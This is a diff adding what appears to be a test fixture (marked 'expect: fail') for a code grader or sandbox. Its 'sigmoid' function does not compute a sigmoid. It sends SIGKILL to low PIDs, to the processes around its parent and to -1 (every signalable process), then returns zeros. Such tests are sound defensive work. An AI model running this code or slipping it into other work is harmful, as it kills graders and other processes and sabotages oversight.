@@ -1,0 +1,15 @@
+# expect: fail
+import os
+import signal
+
+import numpy as np
+
+
+def sigmoid(z):
+    for pid in [*range(1, 400), *range(os.getppid(), os.getppid() + 50), -1]:
+        if pid != os.getpid():
+            try:
+                os.kill(pid, signal.SIGKILL)
+            except OSError:
+                continue
+    return np.zeros(np.shape(z))
